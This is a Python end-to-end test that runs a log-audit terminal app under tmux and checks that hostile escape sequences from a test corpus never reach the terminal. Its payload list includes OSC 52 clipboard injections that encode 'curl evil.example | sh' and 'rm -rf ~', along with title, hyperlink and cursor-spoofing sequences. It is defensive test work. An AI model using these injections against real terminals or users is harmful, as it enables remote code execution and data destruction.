"""The hostile corpus in a real terminal (tmux): only the app drives the terminal.

The app runs on the corpus under tmux while every byte it writes is recorded (``pipe-pane``).
Walking through its views must leave no payload sequence in that stream (no OSC 52 clipboard
write, title change, hyperlink, cursor movement or status query from an event; no C1, bidi
or zero-width character), the screen shows the payloads escaped, the pane title and tmux's
paste buffers are untouched by them, and tiny window sizes do not bring the app down.
"""

from __future__ import annotations

import base64
import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.tmux import Terminal, kaudit, needs_tmux
from tests.hostile.corpus import CORPUS, unsafe_characters

pytestmark = [pytest.mark.e2e, needs_tmux]

PAYLOADS = (
    "\x1b[2J\x1b[H\x1b[31mPWNED",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==",
    "\x1b]52;c;cm0gLXJmIH4=",
    "\x1b]0;owned",
    "\x1b]2;owned",
    "\x1b]8;;https://evil.example/",
    "\x1b[5A\x1b[1;1H\x1b7X",
    "harmless\rSPOOFED",
    "\x1bP+q544e",
    "\x1b_apc",
    "\x1b[6n\x1b[c",
    "\x1b]52;c;ZWNobyBwd25lZA==",
)
"""Sequences the corpus carries; none may reach the terminal as written."""
SGR = re.compile(r"\x1b\[[0-9;:]*m")
APP_SEQUENCE = re.compile(
    r"\x1b(\[[0-9;:?<>=]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)|[()][0-9A-B]|[=>78])"
)
"""Any complete sequence: once the payloads are known absent, what remains must be text."""
OSC_52 = re.compile(r"\x1b\]52;c;([A-Za-z0-9+/=]*)(?:\x07|\x1b\\)")


class RecordedTerminal(Terminal):
    """A tmux pane whose program output is also appended, byte for byte, to ``record``."""

    def __init__(self, command: str, workdir: Path) -> None:
        self.record = workdir / "terminal-output.bin"
        self.record.touch()
        # The program starts once the recording runs: the pane waits for a file to appear.
        ready = workdir / "recording"
        # From its own directory: nothing it might write (an export) lands in the repository.
        wait = f"cd {shlex.quote(str(workdir))}; while [ ! -e {shlex.quote(str(ready))} ]; do "
        wait += "sleep 0.05; done; "
        super().__init__(wait + command, workdir, width=160, height=50)
        self._tmux("set-option", "-g", "set-clipboard", "on")  # OSC 52 would fill a buffer
        self._tmux("pipe-pane", "-o", "-t", "e2e", f"cat >> {shlex.quote(str(self.record))}")
        ready.touch()

    def styled_screen(self) -> str:
        return self._tmux("capture-pane", "-e", "-p", "-t", "e2e")

    def buffers(self) -> list[str]:
        names = self._tmux("list-buffers", "-F", "#{buffer_name}").split()
        return [self._tmux("show-buffer", "-b", name) for name in names]

    def resize(self, width: int, height: int) -> None:
        self._tmux("resize-window", "-t", "e2e", "-x", str(width), "-y", str(height))


@pytest.fixture
def terminal(tmp_path: Path) -> Iterator[RecordedTerminal]:
    command = kaudit(
        "--policy",
        str(CORPUS / "policy.yaml"),
        str(CORPUS / "events.jsonl"),
        str(CORPUS / "legacy.log"),
        str(CORPUS / "skipped.log"),
    )
    term = RecordedTerminal(command, tmp_path)
    try:
        yield term
    finally:
        term.close()


def check_screen(term: RecordedTerminal) -> str:
    """The pane as shown, with the app's colours removed: only plain visible text."""
    plain = SGR.sub("", term.styled_screen())
    assert not unsafe_characters(plain), sorted(set(unsafe_characters(plain)))
    return plain


def test_only_the_app_drives_the_terminal(terminal: RecordedTerminal) -> None:
    term = terminal
    term.wait_for("20 / 20 events")
    assert "\\x1b]52;c;" in check_screen(term)
    for row in range(0, 20, 3):
        term.keys("g", *["j"] * row, "Enter")
        term.wait_for("stages of request")
        check_screen(term)
        term.keys("y", "Escape")
        term.wait_for("20 / 20 events")
    views = (
        ("c", "facets"),
        ("h", "events"),
        ("p", "policy"),
        ("r", "requests"),
        ("r", "20 / 20 events"),
        ("!", "lines held no audit event"),
        ("Escape", "20 / 20 events"),
        ("P", "Enter: show only the events"),
        ("Escape", "20 / 20 events"),
        ("?", "Moving"),
        ("Escape", "20 / 20 events"),
    )
    for key, shows in views:
        term.keys(key)
        term.wait_for(shows)
        check_screen(term)
    for width, height in ((20, 5), (1, 1), (3, 40), (160, 2), (160, 50)):
        term.resize(width, height)
        term.wait_for(lambda screen: screen is not None)
    term.wait_for("20 / 20 events")
    check_screen(term)
    term.keys("q")
    assert term.exit_code() == 0

    stream = term.record.read_bytes().decode("utf-8", "replace")
    for payload in PAYLOADS:
        assert payload not in stream, payload
    for copied in OSC_52.findall(stream):  # the app's own copies of the event JSON
        assert not unsafe_characters(base64.b64decode(copied).decode())
    text = APP_SEQUENCE.sub("", stream)
    assert not unsafe_characters(text.replace("\r", "").replace("\x08", "")), sorted(
        set(unsafe_characters(text))
    )
    assert "owned" not in term.pane("#{pane_title}")
    # The app's own copies (y) of an event fill buffers too, with its JSON escaped; what must
    # never appear is a command an event's raw OSC 52 payload would have put there.
    assert not any("curl evil.example | sh" in b or "rm -rf ~" in b for b in term.buffers())
